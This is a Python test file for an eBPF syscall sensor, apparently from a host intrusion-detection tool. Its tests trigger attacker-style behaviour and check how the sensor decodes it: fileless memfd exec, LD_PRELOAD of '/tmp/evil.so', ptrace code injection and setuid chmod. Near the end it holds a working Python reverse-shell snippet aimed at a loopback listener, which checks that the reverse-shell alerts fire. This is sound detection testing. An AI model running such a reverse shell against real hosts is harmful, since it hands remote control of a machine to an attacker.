"""Real eBPF: each captured syscall, triggered from a child process, decodes with its arguments."""

from __future__ import annotations

import os
import subprocess
import sys
from typing import Any

import pytest

from tests.sensors.conftest import Collector

pytestmark = pytest.mark.ebpf


def one(events: list[dict[str, Any]], syscall: str, **match: Any) -> dict[str, Any]:
    found = [
        e for e in events if e["syscall"] == syscall and all(e["args"].get(k) == v for k, v in match.items())
    ]
    assert found, f"no {syscall} {match} among {[(e['syscall'], e['args']) for e in events]}"
    return found[0]


def test_open_family(collector: Collector) -> None:
    _, ev, _ = collector.run("open")
    e = one(ev, "open", path="/etc/hostname")
    assert e["args"]["flags"] == ["O_RDONLY", "O_CLOEXEC"] and e["ret"] >= 0
    assert e["process"]["comm"].startswith("python")

    pid, ev, _ = collector.run("openat")
    # the first path lived in a page not yet faulted in at sys_enter
    e = one(ev, "openat", path="/etc/hostname")
    assert e["args"]["dirfd"] == -100 and e["ret"] >= 0
    e = one(ev, "openat", path_typed="/proc/self/status")
    assert "O_NONBLOCK" in e["args"]["flags"]
    assert e["args"]["path"] == f"/proc/{pid}/status"  # resolved in the kernel
    e = one(ev, "openat", path="/dev/mem")
    assert e["args"]["flags"][0] == "O_RDWR" and e["ret"] == -2  # ENOENT on this kernel, still reported
    assert not [x for x in ev if x["syscall"] == "openat" and x["args"]["path"].startswith("/usr/lib/python")]

    _, ev, _ = collector.run("openat2")
    e = one(ev, "openat2", path="/etc/passwd")
    assert e["args"]["resolve"] == ["RESOLVE_NO_SYMLINKS"] and "O_CLOEXEC" in e["args"]["flags"]


def test_memfd_exec(collector: Collector) -> None:
    pid, ev, _ = collector.run("memfd_exec")
    m = one(ev, "memfd_create", name="payload")
    assert m["ret"] >= 0 and m["args"]["flags"] == []
    x = one(ev, "execve", exe_memfd=True)
    assert x["ret"] == 0
    assert x["args"]["filename"].startswith("/proc/self/fd/")
    assert x["args"]["argv"] == ["payload", "--stealth"]
    assert x["args"]["exe_name"] == "memfd:payload"
    assert x["process"]["exe"] == "memfd:payload" and x["process"]["cmdline"] == "payload --stealth"
    assert x["process"]["pid"] == pid and x["container_id"] is None


def test_deleted_exe(collector: Collector) -> None:
    _, ev, _ = collector.run("deleted_exec")
    u = one(ev, "unlink")
    assert u["args"]["path"].endswith("/dropper") and u["ret"] == 0
    x = one(ev, "execveat", exe_deleted=True)
    assert x["args"]["exe_memfd"] is False and x["args"]["flags"] == ["AT_EMPTY_PATH"]
    assert x["args"]["argv"] == ["dropper", "--quiet"] and x["args"]["exe_name"] == "dropper"


def test_exec_env_and_lineage(collector: Collector) -> None:
    env = {**os.environ, "LD_PRELOAD": "/tmp/evil.so", "LD_LIBRARY_PATH": "/opt/evil"}
    p = subprocess.run(["/bin/sh", "-c", "/bin/true one two"], env=env, check=False)
    assert p.returncode == 0
    found = collector.wait_for(
        lambda e: e["syscall"] == "execve" and e["args"]["argv"] == ["/bin/true", "one", "two"]
    )
    assert found, "exec of /bin/true not seen"
    x = found[0]
    assert x["args"]["ld_preload"] == "/tmp/evil.so" and x["args"]["ld_library_path"] == "/opt/evil"
    assert x["args"]["filename"] == "/bin/true" and x["process"]["uid"] == 0
    anc = x["process"]["ancestors"]
    assert anc and anc[0]["pid"] == x["process"]["ppid"] and anc[0]["comm"] == "sh"
    assert anc[1]["pid"] == os.getpid()


def test_execveat_and_failed_exec(collector: Collector) -> None:
    _, ev, _ = collector.run("execveat")
    x = one(ev, "execveat", filename="/bin/true")
    assert x["args"]["argv"] == ["/bin/true", "from-execveat"] and x["args"]["dirfd"] == -100
    assert x["args"]["ld_preload"] == "/tmp/execveat.so"
    _, ev, _ = collector.run("exec_fail")
    f = one(ev, "execve", filename="/nonexistent/binary")
    assert f["ret"] == -2


def test_wx_and_w_to_x(collector: Collector) -> None:
    _, ev, out = collector.run("wx")
    addr = int(out.split()[0])
    mp = one(ev, "mprotect", addr=addr)
    assert mp["args"]["w_to_x"] is True and mp["args"]["wx"] is False
    assert mp["args"]["prev_prot"] == ["PROT_READ", "PROT_WRITE"]
    assert mp["args"]["prot"] == ["PROT_READ", "PROT_EXEC"] and mp["ret"] == 0
    mm = one(ev, "mmap", wx=True)
    assert mm["args"]["prot"] == ["PROT_READ", "PROT_WRITE", "PROT_EXEC"]
    assert mm["args"]["flags"] == ["MAP_PRIVATE", "MAP_ANONYMOUS"] and mm["ret"] > 0
    # the RW anonymous mapping itself is state only, not an event
    assert not [e for e in ev if e["syscall"] == "mmap" and e["ret"] == addr]


def test_ptrace_and_process_vm(collector: Collector) -> None:
    _, ev, out = collector.run("ptrace")
    target = int(out.split()[0])
    a = one(ev, "ptrace", request="PTRACE_ATTACH", target_pid=target)
    assert a["ret"] == 0
    p = one(ev, "ptrace", request="PTRACE_POKETEXT", target_pid=target)
    assert p["args"]["addr"] == 0x1000 and p["args"]["data"] == 0x90
    pid, ev, _ = collector.run("process_vm")
    r = one(ev, "process_vm_readv", target_pid=pid)
    w = one(ev, "process_vm_writev", target_pid=pid)
    assert r["ret"] == 64 and w["ret"] == 64 and w["args"]["liovcnt"] == 1 and w["args"]["riovcnt"] == 1


def test_namespaces_and_connect(collector: Collector) -> None:
    _, ev, _ = collector.run("ns")
    assert one(ev, "unshare")["args"]["flags"] == ["CLONE_NEWUTS"]
    s = one(ev, "setns")
    assert s["args"]["nstype"] == ["CLONE_NEWUTS"] and s["ret"] == 0
    _, ev, _ = collector.run("connect")
    c = one(ev, "connect", addr="127.0.0.1", port=9)
    assert c["args"]["family"] == "AF_INET" and c["ret"] == -111  # ECONNREFUSED


def test_file_changes_and_mount(collector: Collector) -> None:
    _, ev, out = collector.run("files")
    d = out.split()[0]
    ch = one(ev, "chmod", path=f"{d}/a")
    assert ch["args"]["mode"] == "0o4755" and "S_ISUID" in ch["args"]["mode_bits"]
    rn = one(ev, "rename", oldpath=f"{d}/a", newpath=f"{d}/b")
    assert rn["ret"] == 0
    one(ev, "unlink", path=f"{d}/b")
    _, ev, out = collector.run("mount")
    m = one(ev, "mount", target=out.split()[0])
    assert m["args"]["fstype"] == "tmpfs" and m["ret"] == 0


def test_lifecycle(collector: Collector) -> None:
    p = subprocess.Popen(["/bin/sh", "-c", "/bin/true lifecycle; exit 3"])
    assert p.wait() == 3
    sh = p.pid
    ex = collector.wait_for(lambda e: e["syscall"] == "process_exit" and e["process"]["pid"] == sh)
    assert ex and ex[0]["args"]["exit_code"] == 3
    x = [
        e
        for e in collector.events
        if e["syscall"] == "execve" and e["args"]["argv"] == ["/bin/true", "lifecycle"]
    ]
    assert x and x[0]["process"]["ppid"] == sh
    child = x[0]["process"]["pid"]
    forks = [
        e for e in collector.events if e["syscall"] == "process_fork" and e["args"]["child_pid"] == child
    ]
    assert forks and forks[0]["process"]["pid"] == sh
    parent = dict(x[0]["process"]["ancestors"][0])
    assert parent.pop("entity_id") == forks[0]["process"]["entity_id"]
    assert parent == {
        "pid": sh,
        "exe": os.path.realpath(
            "/bin/sh"
        ),  # the file the kernel executed (dash on Debian), not the typed name
        "comm": "sh",
        "cmdline": "/bin/sh -c /bin/true lifecycle; exit 3",
    }


def test_event_shape_matches_schema(collector: Collector) -> None:
    from schemas.events import Event

    collector.run("openat")
    for e in collector.events[-50:]:
        Event.model_validate(e)
    e = collector.events[-1]
    assert e["id"] == f"{e['host']}:{e['ts_ns']}:{e['process']['tid']}"
    import time

    assert abs(e["time"] - time.time()) < 30


def test_filters_exclude_self_and_counted(collector: Collector) -> None:
    import time

    t0 = time.monotonic_ns()
    with open("/etc/hostname") as f:  # the test process is the "sensor" here: excluded
        f.read()
    collector.program.poll()
    mine = [e for e in collector.events if e["process"]["pid"] == os.getpid() and e["ts_ns"] > t0]
    assert not mine
    assert collector.program.counters()["filtered"] > 0
    assert collector.program.counters()["lost"] == 0


def test_runtime_allowlist_and_rate_limit(collector: Collector) -> None:
    """Both are map contents: changed while attached, no recompile."""
    prog = collector.program
    try:
        prog.set_allow_comms(["cat"])
        p = subprocess.Popen(["/bin/cat", "/etc/hostname"], stdout=subprocess.DEVNULL)
        p.wait()
        collector.wait_for(lambda e: e["syscall"] == "process_exit" and e["process"]["pid"] == p.pid)
        mine = [e for e in collector.events if e["process"]["pid"] == p.pid]
        assert [e for e in mine if e["syscall"] == "execve"], "exec is never allowlisted away"
        assert not [e for e in mine if e["syscall"] == "openat" and e["args"]["path"] == "/etc/hostname"]
        prog.set_allow_comms([])

        before = prog.counters()["rate_limited"]
        prog.set_rate_limit(5)
        script = (
            "import os\nfor _ in range(200): os.close(os.open('/etc/hostname', os.O_RDONLY))\n"
            "os.close(os.open('/tmp/.memtrail-rl', os.O_WRONLY | os.O_CREAT))\nos.unlink('/tmp/.memtrail-rl')"
        )
        p = subprocess.Popen([sys.executable, "-c", script])
        p.wait()
        collector.wait_for(lambda e: e["syscall"] == "process_exit" and e["process"]["pid"] == p.pid)
        mine = [e for e in collector.events if e["process"]["pid"] == p.pid]
        reads = [e for e in mine if e["syscall"] == "openat" and e["args"]["path"] == "/etc/hostname"]
        assert len(reads) <= 10
        assert prog.counters()["rate_limited"] - before >= 190
        writes = [e for e in mine if e["syscall"] == "openat" and e["args"]["path"] == "/tmp/.memtrail-rl"]
        assert writes, "a write open is never rate limited"
    finally:
        prog.set_allow_comms([])
        prog.set_rate_limit(0)


def test_write_opens_have_their_own_prefixes(collector: Collector) -> None:
    """/var/log/ is not a read prefix but is a write prefix (log tampering, persistence)."""
    import uuid

    path = f"/var/log/memtrail-test-{uuid.uuid4().hex[:8]}.log"
    script = (
        f"import os\nfd = os.open({path!r}, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)\nos.close(fd)\n"
        f"os.close(os.open({path!r}, os.O_RDONLY))\nos.unlink({path!r})"
    )
    p = subprocess.Popen([sys.executable, "-c", script])
    p.wait()
    collector.wait_for(lambda e: e["syscall"] == "process_exit" and e["process"]["pid"] == p.pid)
    mine = [e for e in collector.events if e["process"]["pid"] == p.pid and e["args"].get("path") == path]
    opens = [e for e in mine if e["syscall"] == "openat"]
    assert len(opens) == 1 and opens[0]["args"]["flags"][:3] == ["O_WRONLY", "O_CREAT", "O_TRUNC"]
    assert opens[0]["args"]["mode"] == "0o600"
    assert [e for e in mine if e["syscall"] == "unlink"], "unlink under /var/log/ is reported"


def test_fork_reports_processes_not_threads(collector: Collector) -> None:
    pid, ev, out = collector.run("threads")
    child = int(out.split()[0])
    forks = [e for e in ev if e["syscall"] == "process_fork" and e["process"]["pid"] == pid]
    assert [e["args"]["child_pid"] for e in forks] == [child]  # 5 threads started, none reported


# A reverse shell the classic way: connect, dup2 the socket onto 0/1/2, exec.
REVERSE_SHELL = """
import os, socket, sys
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
os.execv(sys.argv[2], sys.argv[2:])
"""


def _reverse_shell(collector: Collector, argv: list[str]) -> tuple[int, list[dict[str, Any]]]:
    """Listen on a free loopback port, run the child against it; the child's events (exec first found)."""
    import socket

    with socket.socket() as srv:
        srv.bind(("127.0.0.1", 0))
        srv.listen(1)
        port = srv.getsockname()[1]
        p = subprocess.Popen(
            [sys.executable, "-c", REVERSE_SHELL, str(port), *argv], stdin=subprocess.DEVNULL
        )
        srv.settimeout(30)
        conn, _ = srv.accept()
        with conn:
            assert p.wait(timeout=30) == 0
    found = collector.wait_for(
        lambda e: e["syscall"] == "execve" and e["process"]["pid"] == p.pid and e["args"]["argv"] == argv
    )
    assert found, f"exec of {argv} not seen"
    collector.wait_for(lambda e: e["syscall"] == "process_exit" and e["process"]["pid"] == p.pid)
    return p.pid, sorted(
        (e for e in collector.events if e["process"]["pid"] == p.pid), key=lambda e: e["ts_ns"]
    )


def test_reverse_shell_stdio_is_a_socket(collector: Collector) -> None:
    from memtrail.core.settings import DEFAULT_PATTERNS_DIR
    from patterns.engine.api import load_engine

    _, ev = _reverse_shell(collector, ["/bin/sh", "-c", "exit 0"])
    c = one(ev, "connect", addr="127.0.0.1")
    assert c["ret"] == 0 and c["args"]["family"] == "AF_INET"
    x = one(ev, "execve", argv=["/bin/sh", "-c", "exit 0"])
    assert x["args"]["stdio"] == {
        "stdin": "socket",
        "stdin_family": "AF_INET",
        "stdout": "socket",
        "stdout_family": "AF_INET",
        "stderr": "socket",
        "stderr_family": "AF_INET",
        "network": ["stdin", "stdout", "stderr"],
    }
    # the python child's own exec (stdin /dev/null, the test's stdout) has no socket stdio
    py = [e for e in ev if e["syscall"] == "execve" and e is not x]
    assert py and py[0]["args"]["stdio"]["stdin"] == "null" and py[0]["args"]["stdio"]["network"] == []

    # the captured events, straight into the shipped library
    engine = load_engine([DEFAULT_PATTERNS_DIR])
    alerts = {a.rule.id: a for a in engine.process_batch(ev) + engine.flush()}
    assert "MT-NET-003" in alerts and "MT-NET-005" in alerts, sorted(alerts)
    assert alerts["MT-NET-003"].rule.severity == "critical"
    assert {"T1059.004", "T1095"} <= set(alerts["MT-NET-003"].threat.technique.id)
    assert "MT-NET-004" not in alerts


def test_interpreter_on_a_socket_and_plain_exec(collector: Collector) -> None:
    from memtrail.core.settings import DEFAULT_PATTERNS_DIR
    from patterns.engine.api import load_engine

    _, ev = _reverse_shell(collector, [sys.executable, "-c", "pass"])
    x = one(ev, "execve", argv=[sys.executable, "-c", "pass"])
    assert x["args"]["stdio"]["network"] == ["stdin", "stdout", "stderr"]
    engine = load_engine([DEFAULT_PATTERNS_DIR])
    ids = {a.rule.id for a in engine.process_batch(ev) + engine.flush()}
    assert "MT-NET-004" in ids and "MT-NET-003" not in ids, sorted(ids)

    # a plain exec from the test: pipe and /dev/null, no socket, no reverse-shell alert
    p = subprocess.run(
        ["/bin/true", "stdio-plain"], stdin=subprocess.DEVNULL, capture_output=True, check=True
    )
    assert p.returncode == 0
    found = collector.wait_for(
        lambda e: e["syscall"] == "execve" and e["args"]["argv"] == ["/bin/true", "stdio-plain"]
    )
    stdio = found[0]["args"]["stdio"] if found else {}
    assert stdio.pop("stdout_ino") > 0 and stdio.pop("stderr_ino") > 0  # pipe:[N] of each pipe
    assert stdio == {
        "stdin": "null",
        "stdout": "pipe",
        "stderr": "pipe",
        "network": [],
    }
    engine = load_engine([DEFAULT_PATTERNS_DIR])
    assert not {a.rule.id for a in engine.process_batch(found)} & {"MT-NET-003", "MT-NET-004", "MT-NET-005"}
